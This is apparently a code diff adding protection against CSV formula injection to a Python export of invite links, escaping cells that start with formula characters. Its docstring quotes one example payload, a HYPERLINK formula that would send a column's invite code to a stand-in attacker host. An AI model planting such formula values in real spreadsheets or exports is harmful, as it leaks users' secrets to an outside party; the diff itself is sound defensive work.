@@ -393,6 +393,18 @@ def link_for(code: str, bot_username: str) -> str:
     )
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def as_cell(value: str) -> str:
+    """Gives a value a spreadsheet shows as text, never runs as a formula (OWASP's CSV injection advice).
+
+    A cell that starts with = + - @, a tab or a carriage return gets a leading single quote: a name like
+    `=HYPERLINK("http://evil.example/?x="&F2)` would otherwise send the invite code in column F away.
+    """
+    return "'" + value if value.startswith(FORMULA_STARTS) else value
+
+
 def links_csv(
     invited: Sequence[Invited],
     bot_username: str,
@@ -404,17 +416,16 @@ def links_csv(
     writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
     writer.writerow(OUTPUT_COLUMNS)
     for i in invited:
-        writer.writerow(
-            (
-                i.name,
-                i.enrolee.email,
-                i.set_key,
-                i.language,
-                i.role,
-                i.code,
-                link_for(i.code, bot_username),
-                last_day(i.expires_at),
-                i.status,
-            )
+        cells = (
+            i.name,
+            i.enrolee.email,
+            i.set_key,
+            i.language,
+            i.role,
+            i.code,
+            link_for(i.code, bot_username),
+            last_day(i.expires_at),
+            i.status,
         )
+        writer.writerow([as_cell(cell) for cell in cells])
     return out.getvalue()
